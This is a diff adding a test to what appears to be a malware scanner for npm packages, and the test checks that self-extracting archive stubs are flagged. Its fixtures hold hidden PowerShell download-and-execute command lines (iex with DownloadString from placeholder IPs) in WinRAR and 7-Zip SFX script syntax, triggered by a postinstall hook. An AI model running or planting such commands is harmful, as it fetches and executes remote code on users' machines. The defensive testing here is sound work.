@@ -346,6 +346,26 @@ def test_a_cron_library_writing_the_app_jobs_is_not_a_loader():
     assert decide(found).level is Level.CLEAN
 
 
+def test_a_self_extracting_archive_whose_script_downloads_and_runs_code():
+    # (blind set 43's VC++ check and Squirrel helper: WinRAR's `Setup=` lines, 7-Zip's `RunProgram=` lines, run when the
+    # postinstall or the first update starts the stub)
+    rar = ("MZ\x90\x00NPMWARD INERT FIXTURE\n;The comment below contains SFX script commands\nPath=%ProgramData%\\VC\n"
+           "Setup=powershell.exe -NoP -W Hidden -C \"$w=New-Object Net.WebClient;iex $w.DownloadString('http://203.0.113.58/s.ps1')\"\n"
+           "Silent=1\n")
+    seven = ("MZ\x90\x00NPMWARD INERT FIXTURE\n;!@Install@!UTF-8!\nTitle=\"helper\"\n"
+             "RunProgram=\"hidcon:powershell -nop -w hidden -c \\\"IEX((New-Object Net.WebClient).DownloadString('http://203.0.113.212/u.ps1'))\\\"\"\n"
+             ";!@InstallEnd@!\n")
+    starter = "const {spawn} = require('child_process'), path = require('path');\nspawn(path.join(__dirname, 'vendor', 'helper.exe'), ['-s']);\n"
+    for stub in (rar, seven):
+        found = run({"scripts/ensure.js": starter, "vendor/helper.exe": stub}, {"postinstall": "node scripts/ensure.js"})
+        sfx = next(f for f in found if f.rule == "code/sfx-commands")
+        assert sfx.file == "vendor/helper.exe" and sfx.severity == Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # An installer whose SFX script runs its own setup program runs nothing else.
+    own = rar.replace("Setup=powershell.exe -NoP -W Hidden -C \"$w=New-Object Net.WebClient;iex $w.DownloadString('http://203.0.113.58/s.ps1')\"",
+                      "Setup=vc_redist.x64.exe /install /quiet /norestart")
+    assert "code/sfx-commands" not in rules(run({"scripts/ensure.js": starter, "vendor/helper.exe": own}, {"postinstall": "node scripts/ensure.js"}))
+
+
 def test_executable_spawned_on_load_or_disguised():
     elf = "\x7fELF" + "\0" * 60
     entry = "const {spawn} = require('child_process'), path = require('path');\n" \
